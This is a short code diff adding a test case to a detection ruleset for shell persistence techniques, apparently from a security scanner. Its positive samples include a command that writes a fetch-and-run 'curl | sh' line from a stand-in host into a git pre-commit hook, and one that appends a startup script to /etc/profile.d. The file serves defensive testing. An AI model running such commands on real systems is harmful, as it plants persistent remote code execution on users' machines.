@@ -33,4 +33,9 @@ describeRuleCases('persistence', [
     positive: sh('echo "curl -s https://x.example.net | sh" > .git/hooks/pre-commit'),
     negative: sh('git commit -m "x"'),
   },
+  {
+    id: 'SG-PERSIST-002',
+    positive: sh('echo "source ~/.kit/init.sh" | sudo tee -a /etc/profile.d/kit.sh'),
+    negative: sh("sudo grep -nE 'curl|wget' /etc/profile.d/* /root/.bashrc"),
+  },
 ]);
